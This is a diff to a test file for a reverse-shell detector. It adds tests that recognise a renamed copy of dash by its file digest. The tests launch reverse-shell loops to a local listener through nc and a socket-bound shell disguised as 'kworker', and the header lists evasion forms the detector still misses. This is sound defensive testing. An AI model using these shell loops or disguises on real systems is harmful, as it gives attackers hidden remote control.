@@ -22,7 +22,9 @@ Found and fixed:
   (the newest first). Those holding a connection, then those with a pipe or FIFO on their
   streams, are now read first.
 
-Left (strict xfail, the reasons on each): a renamed copy of a shell, a shell behind a pty
+Fixed since: a renamed copy of a shell (exe:shell-copy, by its file's size and digest).
+
+Left (strict xfail, the reasons on each): a shell behind a pty
 (`script -qc 'sh -i'`), a loop through a UNIX socket to the process holding the connection,
 a shell fed by `tail -f` of a regular file its relay appends to, the `while read l; do $l;
 done` loop a job queue's shape hides, a padded library listed by a RECORD of the user's own
@@ -43,6 +45,7 @@ import os
 import shutil
 import socket
 import subprocess
+import sys
 import time
 from pathlib import Path
 
@@ -222,15 +225,95 @@ def test_a_forked_subshell_is_told_from_a_shell_it_execs(tmp_path):
 
 # ---------------------------------------------------------------- left
 
-@pytest.mark.xfail(strict=True, reason=(
-    "a shell is told by the basenames of its file and first word (pipes.is_shell, the "
-    "signature's exe_name/argv0): a byte-for-byte copy of dash named kworker is no shell to "
-    "either; telling it needs the program's identity by content, which no field gives"))
 def test_a_renamed_copy_of_a_shell_in_a_loop_is_recognised(listener, tmp_path):  # noqa: F811
-    found, _ = _reverse_shell(
-        "cp /bin/dash {d}/kworker; cat {f} | {d}/kworker -i 2>&1 | nc 127.0.0.1 {port} > {f}",
-        listener, tmp_path)
-    assert any(sig == "remote-reverse-shell" for sig, _, _ in found)
+    """A byte-for-byte copy of dash named kworker: no shell by its name, one by its file's
+    content (the system's dash's size and digest: exe:shell-copy)."""
+    fifo = tmp_path / "f"
+    os.mkfifo(fifo)
+    line = (f"cp /bin/dash {tmp_path}/kworker; "
+            f"cat {fifo} | {tmp_path}/kworker -i 2>&1 | nc 127.0.0.1 {listener.port} > {fifo}")
+    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL,
+                stderr=subprocess.DEVNULL) as kernel:
+        listener.accept_one()
+        _relay_connected(kernel.pid)
+        shell, detections = _wait_for(  # once its file is scanned
+            ProcessSampler(), kernel.pid,
+            lambda p: "exe:shell-copy" in p.exe_markers and p.stream_relay)
+    assert shell.cmdline == [f"{tmp_path}/kworker", "-i"] and shell.stream_relay.startswith("nc")
+    assert "remote-reverse-shell" in {d.signature.id for d in detections}
+
+
+def test_a_renamed_copy_of_a_shell_whose_streams_are_a_connection_is_recognised(
+        listener, tmp_path):  # noqa: F811
+    """`nc -e ./kworker`'s shape: the copy of dash with the socket on its streams."""
+    copy = tmp_path / "kworker"
+    shutil.copy("/bin/dash", copy)
+    code = ("import socket, subprocess, sys\n"
+            f"s = socket.create_connection(('127.0.0.1', {listener.port}))\n"
+            f"subprocess.run([{str(copy)!r}, '-i'], stdin=s, stdout=s, stderr=s)\n")
+    with _group([sys.executable, "-c", code]) as parent:
+        listener.accept_one()
+        shell, detections = _wait_for(ProcessSampler(), parent.pid,
+                                      lambda p: "exe:shell-copy" in p.exe_markers)
+    assert shell.cmdline == [str(copy), "-i"]
+    assert "remote-reverse-shell" in {d.signature.id for d in detections}
+
+
+def test_a_renamed_copy_of_a_shell_running_its_script_in_a_loop_is_left_alone(
+        listener, tmp_path):  # noqa: F811
+    """The near miss: the same copy given a script file (a protocol handler answering each
+    line it reads), in the same loop: a shell by its content, running its script (dash holds
+    it on a close-on-exec fd: pipes.running_its_script), judged on its script."""
+    fifo, handler = tmp_path / "f", tmp_path / "handler.sh"
+    os.mkfifo(fifo)
+    handler.write_text("while read l; do echo ok; done\n")
+    line = (f"cp /bin/dash {tmp_path}/runner; cat {fifo} | {tmp_path}/runner {handler} 2>&1 "
+            f"| nc 127.0.0.1 {listener.port} > {fifo}")
+    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL,
+                stderr=subprocess.DEVNULL) as kernel:
+        listener.accept_one()
+        _relay_connected(kernel.pid)
+        shell, detections = _wait_for(ProcessSampler(), kernel.pid,
+                                      lambda p: "exe:shell-copy" in p.exe_markers)
+    assert shell.cmdline == [f"{tmp_path}/runner", str(handler)]
+    assert detections == []
+
+
+@pytest.mark.parametrize("program", ["/bin/dash", "/bin/bash"])
+def test_the_systems_own_shells_carry_no_trait_and_a_changed_copy_is_no_shell(program, tmp_path):
+    """The system's dash and bash, run as themselves, are the system's shells (no trait: the
+    engine judges them on their scripts); a copy one byte changed is not told (no digest)."""
+    from colab_guard.observe.content import ContentScanner
+    scanner = ContentScanner(background=False)
+    changed = tmp_path / "kworker"
+    data = bytearray(Path(os.path.realpath(program)).read_bytes())
+    data[-1] ^= 1
+    changed.write_bytes(bytes(data))
+    changed.chmod(0o755)
+    copy = tmp_path / "runner"
+    shutil.copy(program, copy)
+    started = {path: subprocess.Popen([path, "-c", "sleep 30; :"]) for path in
+               (program, str(changed), str(copy))}
+    try:
+        markers = {path: wait_until(lambda: _settled_markers(scanner, p.pid))
+                   for path, p in started.items()}
+    finally:
+        for p in started.values():
+            p.kill()
+            p.wait()
+    assert markers[program] == [None]
+    assert markers[str(changed)] == [None]
+    assert markers[str(copy)] == [None, "exe:shell-copy"]
+
+
+def _settled_markers(scanner, pid: int) -> list | None:
+    """The process's markers once it runs its own file (after its exec); None first, so that
+    an empty list is an answer."""
+    exe = os.readlink(f"/proc/{pid}/exe")
+    if not exe.endswith(("dash", "bash", "kworker", "runner")):
+        return None
+    cmdline = open(f"/proc/{pid}/cmdline").read().split("\0")[:-1]
+    return [None, *scanner.process_markers(pid, exe, cmdline)]
 
 
 @pytest.mark.skipif(shutil.which("script") is None, reason="needs util-linux's script")
